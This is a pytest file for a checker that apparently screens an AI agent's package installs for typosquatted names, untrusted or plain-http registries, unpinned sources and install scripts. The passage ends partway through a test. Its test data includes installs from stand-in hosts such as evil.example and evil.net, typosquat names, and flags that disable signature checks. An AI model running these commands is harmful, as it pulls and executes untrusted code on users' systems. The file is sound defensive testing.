"""The ``package_install`` kind: untrusted and unpinned sources, near-miss names, scripts."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from specialists import package_install
from specialists.package_install import (
    PackageInstallSpecialist,
    PopularIndex,
    installs_in,
    normal_name,
    osa_distance,
)
from specialists.shellparse import parse
from supervisor.models import Action, Context, SpecialistResult, Verdict
from supervisor.specialist import Execution, SpecialistKind
from supervisor.taxonomy import Entry

CTX = Context(cwd="/work/app", repo_root="/work/app", home="/home/u")
COMMIT = "3f786850e387550fdab836ed7e6dc881de23001b"
SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
ALL_CHECKS = ["untrusted_source", "unpinned_url", "typosquat", "install_scripts"]


def kind() -> SpecialistKind:
    (registered,) = package_install.supervisor_register_kinds()
    return registered


def make_entry(default_verdict: str = "nudge") -> Entry:
    return Entry.model_validate(
        {
            "id": "supply_hallucinated_package",
            "title": "A package install test entry",
            "description": "Objects to installs from bad sources or of near-miss names.",
            "example": {"summary": "An agent installed a typo.", "source": "https://example.org"},
            "severity": "high",
            "default_verdict": default_verdict,
            "references": ["CWE-1357"],
            "detection": "deterministic",
            "applies_to": {"action_types": ["shell", "package_install"]},
            "specialist": {"kind": "package_install", "config": {}},
        }
    )


def build(config: dict[str, Any] | None = None, default: str = "nudge") -> PackageInstallSpecialist:
    k = kind()
    specialist = k.build(make_entry(default), k.config_model.model_validate(config or {}))
    assert isinstance(specialist, PackageInstallSpecialist)
    return specialist


EVERYTHING = build({"checks": ALL_CHECKS})


def run(
    command: str, specialist: PackageInstallSpecialist = EVERYTHING, context: Context = CTX
) -> SpecialistResult:
    return specialist.evaluate(Action(type="shell", args={"command": command}), context)


def checks_of(result: SpecialistResult) -> list[str]:
    """The check that decided, then the others the evidence lists."""
    also = result.evidence.get("also") or []
    assert isinstance(also, list)
    return [str(result.evidence["check"]), *(str(a).split(":", 1)[0] for a in also)]


def test_registers_the_kind_inline_with_strict_config():
    k = kind()
    assert k.name == "package_install"
    assert k.config_model is package_install.PackageInstallConfig
    assert EVERYTHING.execution is Execution.INLINE
    default = k.config_model.model_validate({})
    assert isinstance(default, package_install.PackageInstallConfig)
    assert default.checks == ["untrusted_source", "unpinned_url", "typosquat"]


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "pip list",
        "pip show requests",
        "npm run build",
        "pnpm exec vitest run",  # a local binary: nothing is fetched
        "cargo build",
        "go test ./...",
    ],
)
def test_no_install_refuses(command):
    assert run(command) is SpecialistResult.refuse()


def test_other_actions_refuse():
    action = Action(type="http", args={"url": "https://pypi.org/simple/reqeusts"})
    assert EVERYTHING.evaluate(action, CTX) is SpecialistResult.refuse()
    assert EVERYTHING.evaluate(Action(type="package_install"), CTX) is SpecialistResult.refuse()


@pytest.mark.parametrize(
    "command",
    [
        "pip install requests==2.32.3",
        "pip install -r requirements.txt",
        "pip install -e '.[dev]'",
        "python -m pip install --upgrade pip setuptools wheel",
        "pip3 install Python_DateUtil PyYAML",  # PEP 503: the same as python-dateutil, pyyaml
        "uv pip install -r requirements.txt",
        "uv add httpx 'pydantic>=2'",
        "poetry add django@^5.0",
        "npm install",
        "npm ci",
        "npm install --ignore-scripts",
        "yarn",
        "yarn install --frozen-lockfile",
        "npm i -D typescript @types/node --ignore-scripts",
        "npm_config_ignore_scripts=true npm install express",
        "pnpm add react react-dom",
        "bun add zod",
        "npx -y prettier@3.3.3 --write .",
        "npx prettier --write .",  # asks before fetching: not the --yes form
        "uvx ruff check",
        "cargo install ripgrep",
        "cargo add serde --features derive",
        "gem install rails -v 7.1.0",
        "go install golang.org/x/tools/gopls@latest",
        "apt-get install -y build-essential",
        "brew install jq",
        f"pip install git+https://github.com/acme/tool@{COMMIT}",  # trusted below
    ],
)
def test_benign_installs_pass(command):
    specialist = build({"checks": ALL_CHECKS, "trusted_sources": ["github.com/acme"]})
    assert run(command, specialist) is SpecialistResult.ok()


@pytest.mark.parametrize(
    ("command", "name", "similar", "ecosystem"),
    [
        ("pip install reqeusts", "reqeusts", "requests", "pypi"),
        ("pip install djnago==5.0", "djnago", "django", "pypi"),
        ("python3 -m pip install --user numpyy", "numpyy", "numpy", "pypi"),
        ("sudo -H pip3 install beutifulsoup4", "beutifulsoup4", "beautifulsoup4", "pypi"),
        ("uv pip install tensorfow", "tensorfow", "tensorflow", "pypi"),
        ("npm i crossenv --ignore-scripts", "crossenv", "cross-env", "npm"),
        ("npm install lodahs --ignore-scripts", "lodahs", "lodash", "npm"),
        ("yarn add expres --ignore-scripts", "expres", "express", "npm"),
        ("npm i event-strem --ignore-scripts", "event-strem", "event-stream", "npm"),
        ("npx -y create-nxet-app@15.0.0", "create-nxet-app", "create-next-app", "npm"),
    ],
)
def test_typosquats(command, name, similar, ecosystem):
    result = run(command)
    assert result.verdict is Verdict.NUDGE
    assert result.evidence["check"] == "typosquat"
    assert result.evidence["object"] == f"package:{ecosystem}:{name}"
    assert result.evidence["similar_to"] == similar
    assert result.evidence["distance"] in (1, 2)
    assert f"did you mean {similar}?" in str(result.correction)
    assert similar in str(result.reason)


def test_typosquat_reason_names_the_rank_and_snapshot():
    result = run("pip install reqeusts")
    assert result.reason == (
        "pip installs reqeusts, which is not a popular PyPI package but is 1 edit from requests "
        "(the 6th most downloaded): a typo, a hallucinated name or a typosquat"
    )
    assert result.evidence["popular_rank"] == 6
    assert result.evidence["list_snapshot"] == "2026-12-01"
    assert result.confidence == 0.8


@pytest.mark.parametrize(
    "command",
    [
        "npm i @babel/croe --ignore-scripts",  # same scope: only babel can publish there
        "npm i babel-generator --ignore-scripts",  # unscoped vs @babel/generator: not compared
        "pip install six",  # popular
        "pip install scons",  # known (ranked, though not in the top 5,000): not a target
        "pip install abc",  # too short to compare
        "pip install my-company-internal-sdk",
    ],
)
def test_names_that_are_not_typosquats(command):
    assert run(command) is SpecialistResult.ok()


def test_allow_list_suppresses_typosquat_and_scripts():
    specialist = build({"checks": ALL_CHECKS, "allow": ["reqeusts", "npm:lodahs"]})
    assert run("pip install reqeusts", specialist) is SpecialistResult.ok()
    assert run("npm i lodahs", specialist) is SpecialistResult.ok()
    assert run("pip install lodahs", specialist) is SpecialistResult.ok()  # not a near miss
    # ecosystem-qualified entries only apply to their ecosystem
    other = build({"allow": ["pypi:crossenv"]})
    assert run("npm i crossenv", other).evidence["check"] == "typosquat"


def test_distance_bounds_are_configurable():
    strict = build({"checks": ["typosquat"], "max_distance": 1})
    assert run("pip install beautifulsop4x", strict) is SpecialistResult.ok()
    assert run("pip install beautifulsop4x").evidence["distance"] == 2
    short = build({"checks": ["typosquat"], "min_name_length": 7})
    assert run("pip install numpyy", short) is SpecialistResult.ok()


def test_git_url_pinned_to_a_commit_is_untrusted_but_not_unpinned():
    result = run(f"pip install git+https://github.com/x/y@{COMMIT}")
    assert result.verdict is Verdict.NUDGE
    assert checks_of(result) == ["untrusted_source"]
    assert "github.com is not a trusted source" in str(result.reason)
    unpinned = run("pip install git+https://github.com/x/y")
    assert checks_of(unpinned) == ["untrusted_source", "unpinned_url"]
    only_pinning = build({"checks": ["unpinned_url"]})
    assert run(f"pip install git+https://github.com/x/y@{COMMIT}", only_pinning).verdict is (
        Verdict.OK
    )
    result = run("pip install git+https://github.com/x/y@main", only_pinning)
    assert "without a full commit hash" in str(result.reason)


@pytest.mark.parametrize(
    ("command", "pinned"),
    [
        (f"pip install 'pkg @ https://example.com/pkg-1.0.tar.gz#sha256={SHA256}'", True),
        ("pip install https://example.com/pkg-1.0.tar.gz", False),
        (f"pip install git+ssh://git@github.com/acme/x.git@{COMMIT}#egg=x", True),
        ("pip install -e git+https://github.com/acme/x.git#egg=x", False),
        (f"npm i --ignore-scripts github:acme/x#{COMMIT}", True),
        ("npm i --ignore-scripts acme/x", False),
        ("npm i --ignore-scripts https://example.com/x-1.0.0.tgz", False),
        (f"cargo install --git https://github.com/acme/x --rev {COMMIT}", True),
        ("cargo install --git https://github.com/acme/x --branch main", False),
    ],
)
def test_pinning(command, pinned):
    only_pinning = build({"checks": ["unpinned_url"]})
    result = run(command, only_pinning)
    assert (result is SpecialistResult.ok()) == pinned, result


def test_trusted_sources_by_host_and_path():
    specialist = build(
        {"checks": ["untrusted_source"], "trusted_sources": ["github.com/acme", "corp.example"]}
    )
    assert run("pip install git+https://github.com/acme/x", specialist) is SpecialistResult.ok()
    assert run("pip install git+https://github.com/acme/x.git", specialist).verdict is Verdict.OK
    assert run("pip install git+https://github.com/acmex/x", specialist).verdict is Verdict.NUDGE
    assert run("pip install git+https://github.com/evil/x", specialist).verdict is Verdict.NUDGE
    index = "pip install -i https://pypi.corp.example/simple foo"
    assert run(index, specialist) is SpecialistResult.ok()
    # the public registries are trusted unless turned off
    assert run("pip install --index-url https://pypi.org/simple x", specialist).verdict is (
        Verdict.OK
    )
    own = build({"checks": ["untrusted_source"], "trust_default_registries": False})
    assert run("pip install --index-url https://pypi.org/simple x", own).verdict is Verdict.NUDGE


def test_a_requirements_list_fetched_from_a_url_is_a_source():
    result = run("pip install -r https://raw.githubusercontent.com/someone/x/main/reqs.txt")
    assert result.verdict is Verdict.NUDGE
    assert result.evidence["object"] == "source:pypi:raw.githubusercontent.com"
    assert run("pip install -r requirements/dev.txt").verdict is Verdict.OK
    # a constraints file pins versions of what is installed anyway
    pinned = "pip install -c https://raw.githubusercontent.com/o/x/c.txt x==1.0"
    assert run(pinned).verdict is Verdict.OK


def test_extra_index_url_is_dependency_confusion():
    result = run("pip install --extra-index-url https://evil.example/simple foo")
    assert result.verdict is Verdict.NUDGE
    assert result.evidence["check"] == "untrusted_source"
    assert result.evidence["object"] == "source:pypi:evil.example"
    assert result.evidence["option"] == "--extra-index-url"
    assert "dependency confusion" in str(result.reason)
    assert "--extra-index-url" in str(result.correction)


@pytest.mark.parametrize(
    ("command", "fragment"),
    [
        ("pip install --index-url=https://mirror.evil.net/simple flask", "mirror.evil.net"),
        ("pip install --trusted-host pypi.org flask", "turns off TLS certificate checks"),
        ("pip install -i http://pypi.org/simple flask", "plain http"),
        ("pip config set global.index-url https://evil.net/simple", "evil.net"),
        ("npm install --registry https://registry.evil.net/ lodash", "registry.evil.net"),
        ("npm config set registry https://registry.evil.net/", "registry.evil.net"),
        ("yarn add lodash --registry=http://registry.npmjs.org", "plain http"),
        ("npx -y create-foo", "whatever version the registry has now"),
        ("pnpm dlx cowsay", "whatever version the registry has now"),
        ("npm i --ignore-scripts git://github.com/a/b.git", "unauthenticated git://"),
        ("cargo install --index https://crates.evil.net/index foo", "crates.evil.net"),
        ("cargo install --registry corp foo", "not a trusted source"),
        ("gem install --source http://gems.evil.net rails", "gems.evil.net"),
        ("apt-get install -y --allow-unauthenticated foo", "--allow-unauthenticated"),
        ("sudo apt install -o APT::Get::AllowUnauthenticated=true foo", "AllowUnauthenticated"),
        ("GOSUMDB=off go install example.com/tool@latest", "GOSUMDB=off"),
        ("GOFLAGS=-insecure go get example.com/x", "GOFLAGS=-insecure"),
        ("brew install https://evil.net/formula.rb", "evil.net"),
        ("poetry source add corp https://pypi.evil.net/simple", "pypi.evil.net"),
        ("uvx --from git+https://github.com/x/y tool", "github.com"),
        ("pipx install --index-url https://evil.net/simple black", "evil.net"),
    ],
)
def test_untrusted_sources(command, fragment):
    result = run(command, build({"checks": ["untrusted_source"]}))
    assert result.verdict is Verdict.NUDGE, result
    assert result.evidence["check"] == "untrusted_source"
    assert fragment in str(result.reason)


def test_file_urls_outside_the_workspace_are_untrusted():
    only = build({"checks": ["untrusted_source"]})
    assert run("pip install 'x @ file:///work/app/dist/x-1.0.whl'", only) is SpecialistResult.ok()
    outside = run("pip install 'x @ file:///tmp/x-1.0.whl'", only)
    assert outside.verdict is Verdict.NUDGE
    assert "outside the workspace /work/app" in str(outside.reason)
    assert outside.evidence["object"] == "package:pypi:x"
    # Local paths are the project's own business.
    assert run("pip install ./dist/x-1.0.whl ../sibling", only) is SpecialistResult.ok()


def test_install_scripts_is_flag_only():
    blocking = build({"checks": ["install_scripts"]}, default="block")
    result = run("npm install left-pad", blocking)
    assert result.verdict is Verdict.FLAG
    assert result.evidence["check"] == "install_scripts"
    assert result.evidence["object"] == "package:npm:left-pad"
    assert "--ignore-scripts" in str(result.correction)
    assert run("yarn add left-pad", blocking).verdict is Verdict.FLAG
    for quiet in (
        "npm install left-pad --ignore-scripts",
        "npm_config_ignore_scripts=true npm i left-pad",
        "npm install",  # the lockfile's packages were reviewed when it was written
        "pnpm add left-pad",
        "bun add left-pad",
    ):
        assert run(quiet, blocking) is SpecialistResult.ok(), quiet
    # With a stronger check alongside, the strongest verdict wins and the rest are listed.
    both = run("npm i crossenv")
    assert both.verdict is Verdict.NUDGE
    assert checks_of(both) == ["typosquat", "install_scripts"]


def test_wrapped_installs_say_how_they_are_reached():
    result = run("bash -c 'cd /work/app && sudo pip install reqeusts'")
    assert result.evidence["check"] == "typosquat"
    assert result.evidence["via"] == ["bash -c"]
    assert "reached through bash -c" in str(result.reason)


def test_package_install_actions():
    def act(**args: Any) -> SpecialistResult:
        return EVERYTHING.evaluate(Action(type="package_install", args=args), CTX)

    assert act(manager="pip", packages=["requests", "numpy"]) is SpecialistResult.ok()
    assert act(manager="pip", name="reqeusts").evidence["similar_to"] == "requests"
    assert act(manager="npm", name="crossenv", ignore_scripts=True).evidence["check"] == (
        "typosquat"
    )
    assert act(manager="npm", name="left-pad").verdict is Verdict.FLAG
    assert act(manager="npm", name="left-pad", version="1.3.0", ignore_scripts=True) is (
        SpecialistResult.ok()
    )
    result = act(manager="pip", name="foo", index_url="https://evil.example/simple")
    assert result.evidence["object"] == "source:pypi:evil.example"
    sourced = act(manager="pip", name="tool", source="git+https://github.com/x/tool")
    assert sourced.evidence["object"] == "package:pypi:tool"
    assert checks_of(sourced) == ["untrusted_source", "unpinned_url"]
    unknown = act(manager="conda", packages=["https://evil.net/x.tar.bz2"])
    assert unknown.evidence["check"] == "untrusted_source"
    assert act(manager="pip") is SpecialistResult.refuse()


def test_shell_can_be_turned_off():
    specialist = build({"shell": False})
    assert run("pip install reqeusts", specialist) is SpecialistResult.refuse()


def test_config_verdict_overrides_the_default():
    assert run("pip install reqeusts", build({"verdict": "block"})).verdict is Verdict.BLOCK


def test_many_packages_are_capped():
    names = " ".join(f"pkg{i}-reqeusts" for i in range(500))
    result = run(f"pip install {names} reqeusts")
    assert result is SpecialistResult.ok()  # only the first MAX_PACKAGES are judged
    capped = run(f"pip install {' '.join(['reqeusts'] * 3)}")
    also = capped.evidence["also"]
    assert isinstance(also, list)
    assert len(also) == 2


@pytest.mark.parametrize(
    ("config", "loc", "message"),
    [
        ({"checks": []}, ("checks",), "at least 1"),
        ({"checks": ["typosquat", "typosquat"]}, ("checks",), "listed twice"),
        ({"checks": ["spelling"]}, ("checks", 0), "Input should be"),
        ({"trusted_sources": ["https://pypi.corp/simple"]}, ("trusted_sources", 0), "not a URL"),
        ({"trusted_sources": ["*.corp.example"]}, ("trusted_sources", 0), "instead of"),
        ({"trusted_sources": ["not a host"]}, ("trusted_sources", 0), "not a host"),
        ({"allow": ["two words"]}, ("allow", 0), "not a package name"),
        ({"allow": ["npm:"]}, ("allow", 0), "names no package"),
        ({"max_distance": 0}, ("max_distance",), "greater than or equal to 1"),
        ({"max_distance": "2"}, ("max_distance",), "valid integer"),  # strict
        ({"verdict": "ok"}, ("verdict",), "Input should be"),
        ({"checkz": ["typosquat"]}, ("checkz",), "Extra inputs"),
    ],
)
def test_invalid_configs_are_rejected_with_a_location(config, loc, message):
    with pytest.raises(ValidationError) as info:
        kind().config_model.model_validate(config)
    (error,) = info.value.errors()
    assert error["loc"] == loc
    assert message in error["msg"]


def test_trusted_sources_are_normalised():
    config = kind().config_model.model_validate(
        {"trusted_sources": ["PyPI.Corp.Example.", "GitHub.com/Acme/"]}
    )
    assert isinstance(config, package_install.PackageInstallConfig)
    assert config.trusted_sources == ["pypi.corp.example", "github.com/acme"]


# -- the parser -----------------------------------------------------------------------------


def installs(command: str) -> list[package_install.Install]:
    return installs_in(parse(command, cwd="/work/app", home="/home/u"))


def test_installs_are_read_through_wrappers_and_options():
    (found,) = installs(
        "sudo -E python3 -m pip install -q --no-cache-dir -i https://a.example/simple "
        "--extra-index-url=https://b.example/simple 'requests[socks]>=2' -e ./lib"
    )
    assert found.ecosystem == "pypi"
    assert found.manager == "python3 -m pip"
    assert found.indexes == (
        ("-i", "https://a.example/simple"),
        ("--extra-index-url", "https://b.example/simple"),
    )
    assert [(p.name, p.kind) for p in found.packages] == [("requests", "registry"), (None, "path")]
    (node,) = installs("npm i -D @types/node@20 lodash@4.17.21 --registry=https://r.example")
    assert [(p.name, p.exact) for p in node.packages] == [("@types/node", False), ("lodash", True)]
    (alias,) = installs("npm i my-lodash@npm:lodash@4")
    assert alias.packages[0].name == "lodash"
    (runner,) = installs("npx --yes -p create-vite@5.0.0 create-vite my-app")
    assert runner.yes
    assert [(p.name, p.runs, p.exact) for p in runner.packages] == [("create-vite", True, True)]
    (bare,) = installs("pip install")
    assert (bare.manager, bare.packages, bare.indexes) == ("pip", (), ())


def test_normal_names():
    assert normal_name("pypi", "Python_DateUtil") == "python-dateutil"
    assert normal_name("pypi", "zope.interface") == "zope-interface"
    assert normal_name("pypi", "a--_.b") == "a-b"
    assert normal_name("npm", "@Babel/Core") == "@babel/core"


def test_fetch_urls():
    (found,) = installs("npm i --ignore-scripts github:acme/x git+ssh://git@github.com:acme/y.git")
    assert [p.fetch_url for p in found.packages] == [
        "https://github.com/acme/x",
        "ssh://git@github.com/acme/y.git",
    ]


# -- the distance and the index ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("a", "b", "distance"),
    [
        ("requests", "requests", 0),
        ("reqeusts", "requests", 1),  # a swap is one edit
        ("request", "requests", 1),
        ("rekuests", "requests", 1),
        ("reqests", "requests", 1),
        ("djnago", "django", 1),
        ("abcdef", "badcfe", 3),
        ("", "abc", 3),
    ],
)
def test_osa_distance(a, b, distance):
    assert osa_distance(a, b, 5) == distance
    assert osa_distance(b, a, 5) == distance


def reference_osa(a: str, b: str) -> int:
    rows = [[0] * (len(b) + 1) for _ in range(len(a) + 1)]
    for i in range(len(a) + 1):
        rows[i][0] = i
    for j in range(len(b) + 1):
        rows[0][j] = j
    for i in range(1, len(a) + 1):
        for j in range(1, len(b) + 1):
            cost = 0 if a[i - 1] == b[j - 1] else 1
            rows[i][j] = min(rows[i - 1][j] + 1, rows[i][j - 1] + 1, rows[i - 1][j - 1] + cost)
            if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                rows[i][j] = min(rows[i][j], rows[i - 2][j - 2] + 1)
    return rows[len(a)][len(b)]


WORD = st.text(alphabet="abcde-", max_size=12)


@given(WORD, WORD, st.integers(min_value=1, max_value=3))
def test_the_banded_distance_agrees_with_the_full_table(a, b, bound):
    full = reference_osa(a, b)
    assert osa_distance(a, b, bound) == (full if full <= bound else bound + 1)


@given(
    st.lists(st.text(alphabet="abcdefgh-_.@/0", min_size=1, max_size=14), min_size=1, max_size=40),
    WORD,
    st.integers(1, 2),
)
def test_the_signature_filter_never_loses_a_near_name(popular, name, bound):
    index = PopularIndex(popular)
    near = index.nearest(name, bound)
    best = min((reference_osa(name, p), i) for i, p in enumerate(popular))
    if best[0] <= bound and name:
        assert near is not None
        assert near.distance == best[0]
    else:
        assert near is None or near.distance <= bound


def reference_signature(name: str) -> int:
    """The signature by its definition: a bit per character that occurs (one shared by the
    characters outside the table), one more per common character that occurs twice."""
    once, twice = package_install._SIG_ONCE, package_install._SIG_TWICE
    bits = 0
    for ch in name:
        bits |= 1 << (once.find(ch) if ch in once else len(once) - 1)
        if ch in twice and name.count(ch) > 1:
            bits |= 1 << (len(once) + twice.index(ch))
    return bits


@given(st.text(alphabet="eaoinrstlcdmpuhgybfkvwxjqz0123456789-._@/~AZé!", max_size=30))
def test_the_signature_is_the_characters_and_the_doubled_ones(name):
    assert package_install._signature(name) == reference_signature(name)


def test_the_shipped_lists():
    indexes, snapshot = package_install.load_popular()
    assert snapshot == "2026-12-01"
    assert set(indexes) == {"pypi", "npm", "nuget", "go", "cargo", "gem", "psgallery", "choco"}
    assert len(indexes["pypi"]) == 5000
    assert len(indexes["npm"]) == 10000
    assert indexes["npm"].popular("electron")  # 5,373rd by downloads: npm keeps 10,000
    assert indexes["nuget"].popular("newtonsoft.json")
    assert indexes["cargo"].popular("rust_decimal")  # crates: "-" is read as "_"
    assert indexes["psgallery"].popular("azureadpreview")
    assert indexes["go"].popular("github.com/golangci/golangci-lint")  # the /v2 module's repo
    assert indexes["pypi"].ranked
    assert not indexes["nuget"].ranked
    assert indexes["pypi"].known("requests")
    assert indexes["pypi"].known("scons")  # a known name beyond the popular ones
    assert not indexes["pypi"].known("reqeusts")
    assert indexes["npm"].known("@babel/core")


# -- robustness -------------------------------------------------------------------------------

SHELLISH = st.text(
    alphabet=st.sampled_from(list("abcdeinps:/.@-=<>[]#'\" |&;$()`~0123456789")), max_size=100
)
MANAGERS = st.sampled_from(
    [
        "pip install",
        "pip3 install -e",
        "python -m pip install",
        "uv add",
        "uvx",
        "npm i",
        "yarn add",
        "pnpm add",
        "npx -y",
        "cargo install",
        "gem install",
        "go install",
        "apt-get install",
        "brew install",
        "pipx install",
        "poetry add",
        "pip config set",
    ]
)


@given(
    st.one_of(
        SHELLISH, st.text(max_size=200), st.builds(lambda m, a: f"{m} {a}", MANAGERS, SHELLISH)
    )
)
def test_arbitrary_commands_never_crash(command):
    result = run(command)
    assert result.verdict in (Verdict.OK, Verdict.REFUSE, Verdict.FLAG, Verdict.NUDGE)


JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=40),
    lambda children: st.lists(children, max_size=4),
    max_leaves=8,
)


@given(
    st.dictionaries(
        st.sampled_from(
            [
                "manager",
                "packages",
                "name",
                "version",
                "source",
                "index_url",
                "registry",
                "trusted_host",
                "ignore_scripts",
                "ecosystem",
                "command",
            ]
        ),
        JSONISH,
        max_size=6,
    )
)
def test_arbitrary_action_args_never_crash(args):
    result = EVERYTHING.evaluate(Action(type="package_install", args=args), CTX)
    assert result.verdict in (Verdict.OK, Verdict.REFUSE, Verdict.FLAG, Verdict.NUDGE)


def test_denied_names_object_whatever_their_distance():
    specialist = build(
        {
            "checks": ["typosquat"],
            "denied": ["huggingface-cli", "npm:nodemailer-js"],
            "allow": ["Foo_Bar"],
        }
    )
    result = run("pip install huggingface_cli==0.1", specialist)  # PEP 503: the same name
    assert result.verdict is Verdict.NUDGE
    assert result.evidence["denied"] is True
    assert result.evidence["object"] == "package:pypi:huggingface-cli"
    assert run("npm i nodemailer-js", specialist).evidence["denied"] is True
    assert run("pip install nodemailer-js", specialist) is SpecialistResult.ok()
    assert run("pip install foo-bar", specialist) is SpecialistResult.ok()


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("nodemailer-js", "nodemailer"),
        ("jquery.js", "jquery"),
        ("cross-env.js", "cross-env"),
        ("noderequest", "request"),
        ("node-lodash", "lodash"),
    ],
)
def test_npm_affix_look_alikes(name, stem):
    result = run(f"npm i --ignore-scripts {name}")
    assert result.evidence["check"] == "typosquat"
    assert result.evidence["similar_to"] == stem
    assert "added" in str(result.reason)


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("pip install --index-url http://pypi.example.com/simple requests", Verdict.NUDGE),
        ("pip install -i http://10.0.0.5:8080/simple flask", Verdict.NUDGE),
        ("npm install --registry http://registry.example.com lodash", Verdict.NUDGE),
        ("pip install git+git://example.com/acme/tool.git", Verdict.NUDGE),
        # untrusted but over https, or over http to this machine: the entry's verdict
        ("pip install --index-url https://pypi.example.com/simple requests", Verdict.FLAG),
        ("pip install --index-url http://localhost:8080/simple requests", Verdict.FLAG),
    ],
)
def test_a_cleartext_source_gets_at_least_the_cleartext_verdict(command: str, verdict: Verdict):
    specialist = build(
        {"checks": ["untrusted_source"], "cleartext_verdict": "nudge"}, default="flag"
    )
    assert run(command, specialist).verdict is verdict


def test_without_a_cleartext_verdict_the_entry_decides():
    specialist = build({"checks": ["untrusted_source"]}, default="flag")
    result = run("pip install -i http://pypi.example.com/simple requests", specialist)
    assert result.verdict is Verdict.FLAG
    assert result.evidence["transport"] == "plain http"


# -- dependencies added by a file tool ---------------------------------------------------


def test_dependency_names_are_read_from_each_file_kind():
    from specialists.understand.depfiles import dependencies_named

    text = "requests==2.31\n-r base.txt\n# a comment\ngit+https://h/x.git\nflask[async]>=2\n"
    assert dependencies_named("requirements", text) == ["requests", "flask"]
    block = '"dependencies": {\n  "lodash": "^4",\n  "x": "git+https://h/x"\n},\n"scripts": {\n'
    assert dependencies_named("package.json", block + '  "build": "tsc -p ."\n}') == ["lodash"]
    fragment = '  "lodahs": "^4.17.21",\n  "test": "jest --ci"'
    assert dependencies_named("package.json", fragment) == ["lodahs"]
    pipfile = (
        '[packages]\nrequests = "*"\nflask = {version = "*"}\n[requires]\npython_version = "3"'
    )
    assert dependencies_named("pipfile", pipfile) == ["requests", "flask"]


def _edit(path: str, old: str, new: str) -> dict[str, Any]:
    return {"path": path, "old": old, "new": new}


@pytest.mark.parametrize(
    ("action", "verdict"),
    [
        (
            _edit("requirements.txt", "requests==2.31\n", "requests==2.31\nreqeusts\n"),
            Verdict.NUDGE,
        ),
        (
            _edit("package.json", '"dependencies": {', '"dependencies": {\n "expresss": "^4.0.0",'),
            Verdict.NUDGE,
        ),
        (_edit("requirements.txt", "requests==2.31\n", "requests==2.32\n"), Verdict.OK),
        (_edit("requirements.txt", "flask\n", "flask\nrequests\n"), Verdict.OK),
        (_edit("src/app.py", "import os\n", "import reqeusts\n"), None),
    ],
)
def test_a_near_miss_name_added_to_a_dependency_file_is_a_typosquat(
    action: dict[str, Any], verdict: Verdict | None
):
    result = EVERYTHING.evaluate(Action(type="file_edit", args=action), CTX)
    if verdict is None:
        assert result.verdict is Verdict.REFUSE  # not a dependency file: not this kind's
    else:
        assert result.verdict is verdict, result.reason


def test_a_new_requirements_file_is_compared_with_nothing(tmp_path: Path):
    context = Context(cwd=str(tmp_path), repo_root=str(tmp_path), home="/home/u")
    text = "pytest\nreqeusts>=2\n"
    action = Action(type="file_write", args={"path": "requirements-dev.txt", "content": text})
    result = EVERYTHING.evaluate(action, context)
    assert result.verdict is Verdict.NUDGE
    (tmp_path / "requirements-dev.txt").write_text(text)
    same = Action(
        type="file_write", args={"path": "requirements-dev.txt", "content": text + "black\n"}
    )
    assert EVERYTHING.evaluate(same, context).verdict is Verdict.OK  # it was there already


# -- managers beyond pip and npm --------------------------------------------------------------

TYPO = build({"checks": ["typosquat"]})


@pytest.mark.parametrize(
    ("command", "near"),
    [
        ("dotnet add src/Api/Api.csproj package Newtonsfot.Json -v 13.0.3", "newtonsoft.json"),
        ("nuget install Serilgo -OutputDirectory packages", "serilog"),
        ('pwsh -Command "Install-Module -Name AzureADPrevew -Force"', "azureadpreview"),
        ("Install-PSResource -Name Pestre", "pester"),
        ("cargo add rustdecimal", "rust_decimal"),
        ("gem install rials", "rails"),
        ("choco install notepadplusplsu -y", "notepadplusplus"),
        ("go install github.com/golangcl/golangci-lint/cmd/golangci-lint@latest",
         "github.com/golangci/golangci-lint"),
        ("npm i -g electorn", "electron"),
    ],
)  # fmt: skip
def test_near_misses_in_other_registries(command: str, near: str) -> None:
    result = run(command, TYPO)
    assert result.verdict is Verdict.NUDGE, result.reason
    assert result.evidence["similar_to"] == near


@pytest.mark.parametrize(
    "command",
    [
        "dotnet add package Newtonsoft.Json",
        "dotnet tool install -g dotnet-ef",
        "Install-Module Az -Scope CurrentUser",
        "Install-Module -Name AzureADPreview -AllowClobber",
        "cargo install ripgrep",
        "cargo add rust-decimal",  # crates.io reads - and _ alike
        "gem install rails",
        "choco install git -y",
        "go install golang.org/x/tools/gopls@latest",
        "go install github.com/golangci/golangci-lint/cmd/golangci-lint@v1.64.8",
        "go get github.com/acme/toolz",  # same owner as nothing listed; not compared
        "npm i -D electron",
        "brew install jq",
        "winget install --id Microsoft.VisualStudioCode -e",
    ],
)
def test_real_names_in_other_registries_pass(command: str) -> None:
    assert run(command, TYPO).verdict is Verdict.OK


def test_go_paths_are_not_compared_with_their_own_owner() -> None:
    index = PopularIndex(["github.com/acme/tools"], ranked=False)
    skip = package_install._go_skip("github.com/acme/toolz")
    assert index.nearest("github.com/acme/toolz", 2, skip) is None
    assert index.nearest(
        "github.com/acne/tools", 2, package_install._go_skip("github.com/acne/tools")
    )


def test_unranked_lists_do_not_claim_a_rank() -> None:
    result = run("gem install rials", TYPO)
    assert "on the bundled list of popular RubyGems packages" in result.reason
    assert "most downloaded" not in result.reason


@pytest.mark.parametrize(
    ("command", "option", "value"),
    [
        ("dotnet nuget add source https://pkgs.x.example/v3/index.json -n x", "add source",
         "https://pkgs.x.example/v3/index.json"),
        ("dotnet add package Foo -s https://pkgs.x.example/v3/index.json", "-s",
         "https://pkgs.x.example/v3/index.json"),
        ("dotnet restore --source http://10.0.0.5/nuget", "--source", "http://10.0.0.5/nuget"),
        ("nuget sources add -Name x -Source https://pkgs.x.example/nuget", "add -Source",
         "https://pkgs.x.example/nuget"),
        ("Register-PSRepository -Name x -SourceLocation https://ps.x.example/api/v2",
         "-Name x at", "https://ps.x.example/api/v2"),
        ("Register-PSResourceRepository -Name x -Uri https://ps.x.example/v3 -Trusted",
         "(trusted) -Name x at", "https://ps.x.example/v3"),
        ("Set-PSRepository -Name Shady -InstallationPolicy Trusted",
         "-InstallationPolicy Trusted", "Shady"),
        ("Install-Module Pester -Repository Shady", "-Repository", "Shady"),
